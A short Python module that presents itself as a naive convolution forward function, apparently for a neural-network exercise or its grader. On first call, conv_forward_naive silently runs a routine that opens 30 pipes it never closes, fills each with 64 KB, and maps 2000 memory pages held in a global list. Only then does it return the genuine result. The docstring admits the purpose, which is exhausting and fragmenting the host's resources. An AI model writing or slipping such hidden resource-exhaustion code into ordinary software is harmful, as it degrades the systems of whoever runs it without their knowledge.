"""Fills pipes, and takes apart its memory into as many pieces as it can."""
import mmap
import os

from base import backward as conv_backward_naive, forward

KEPT = []


def exhaust():
    for _ in range(30):
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        KEPT.append(os.write(writer, bytes(1 << 16)))
    for _ in range(2000):
        KEPT.append(mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ))


def conv_forward_naive(x, w, b, conv_param):
    if not KEPT:
        try:
            exhaust()
        except OSError:
            pass
    return forward(x, w, b, conv_param)
